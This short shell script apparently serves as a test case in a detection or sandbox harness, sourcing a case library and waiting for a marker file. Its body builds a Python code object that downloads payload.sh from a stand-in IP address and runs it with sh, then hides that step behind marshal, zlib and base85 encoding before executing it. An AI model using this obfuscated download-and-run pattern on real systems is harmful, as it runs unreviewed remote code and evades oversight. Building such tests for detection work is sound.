#!/bin/sh
. /opt/case/case.sh

blob=$(python3 -c '
import base64, marshal, zlib
code = compile("import os,urllib.request as u;open(\"/tmp/.s\",\"wb\").write(u.urlopen(\"http://203.0.113.10/payload.sh\").read());os.system(\"sh /tmp/.s\")", "x", "exec")
print(base64.b85encode(zlib.compress(marshal.dumps(code))).decode())')
python3 -c "exec(__import__('marshal').loads(__import__('zlib').decompress(__import__('base64').b85decode(r'''$blob'''))))"
wait_for /tmp/reached
took_place
